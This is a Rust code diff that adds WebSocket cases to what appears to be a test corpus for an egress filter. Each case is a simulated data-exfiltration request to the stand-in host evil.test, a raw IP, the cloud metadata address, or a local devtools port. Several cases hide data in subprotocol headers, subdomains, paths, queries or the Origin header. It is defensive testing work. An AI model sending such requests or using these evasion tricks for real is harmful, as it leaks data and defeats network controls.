@@ -50,6 +50,7 @@ pub(super) fn attacks(named: &Named, agents: &[String]) -> Vec<Attack> {
     let mut attacks = Attacks(Vec::new());
     attacks.exfiltration();
     attacks.connections(named);
+    attacks.sockets(named);
     attacks.words(named);
     attacks.consent(named, agents);
     attacks.targets(named);
@@ -105,6 +106,36 @@ impl Attacks {
         self.add(class, "a preflight request", preflight);
         let socket = Ask::new("GET", "https://evil.test/").map(|ask| ask.header("accept", "text/event-stream"));
         self.add(class, "a stream of events", socket);
+    }
+
+    /// By handshakes of WebSockets: what is handed on then says anything, and nobody reads it.
+    fn sockets(&mut self, named: &Named) {
+        let class = "WebSockets to a stranger";
+        let ask = |url: &str| Ask::new("GET", url).map(Ask::websocket);
+        for (case, url) in [
+            ("a handshake", "https://evil.test/"),
+            ("in the clear", "http://evil.test/"),
+            ("another port", "https://evil.test:8443/socket"),
+            ("an address", "https://93.184.215.14/"),
+            ("a metadata service", "http://169.254.169.254/"),
+            ("this machine", "http://127.0.0.1:9222/devtools/browser"),
+        ] {
+            self.add(class, case, ask(&format!("{url}?d={MARKER}")));
+        }
+        let protocol = ask("https://evil.test/").map(|ask| ask.header("sec-websocket-protocol", MARKER));
+        self.add(class, "data as a subprotocol", protocol);
+        for host in named.samples() {
+            for (case, url) in [
+                ("the host as labels in front", format!("https://{host}.evil.test/")),
+                ("the host behind a hyphen", format!("https://evil-{host}/")),
+                ("the host in the path", format!("https://evil.test/{host}/")),
+                ("the host in the query", format!("https://evil.test/?host={host}")),
+            ] {
+                self.add(class, case, ask(&url));
+            }
+            let origin = ask("https://evil.test/").map(|ask| ask.header("origin", &format!("https://{host}")));
+            self.add(class, "the host as the origin", origin);
+        }
     }
 
     /// By `connect()`: over what is open then anything may be said.
